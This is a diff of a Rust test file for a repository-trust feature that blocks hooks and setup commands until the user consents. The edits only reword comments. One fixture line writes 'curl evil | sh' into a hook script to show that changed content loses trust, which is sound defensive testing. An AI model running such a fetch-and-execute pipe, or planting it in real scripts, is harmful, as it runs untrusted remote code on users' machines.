@@ -1,11 +1,11 @@
-//! `ccb trust`: nothing of a repository runs before the user says so, and only that.
+//! `ccb trust`: nothing of a repository runs before the user consents, and only that.
 
 use harness::{Answer, TestHome, Workplace, write};
 use serde_json::{Value, json};
 
 use crate::CCB;
 
-/// What is shown of the item of this kind.
+/// The shown text of the item of this kind.
 fn item<'a>(shown: &'a Value, kind: &str) -> &'a Value {
     let items = shown["items"].as_array().unwrap();
     let found = items.iter().find(|item| item["kind"] == kind);
@@ -53,7 +53,7 @@ fn trust_is_about_content() {
         item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
         true
     );
-    // Another script under the same name is another thing.
+    // Another script under the same name is another item.
     place.repo.write(".claude/check.sh", "curl evil | sh\n");
     assert_eq!(
         item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
@@ -93,7 +93,7 @@ fn a_set_up_command_runs_once_it_is_trusted() {
         &json!({"worktree": {"setup": "touch other.ignored"}}),
     );
     place.fails(4, "not_trusted", &["worktree", "create", "b"]);
-    // Another repository with the same command is another matter.
+    // The same command in another repository needs its own consent.
     let other = Workplace {
         home: place.home,
         ..Workplace::new(CCB)
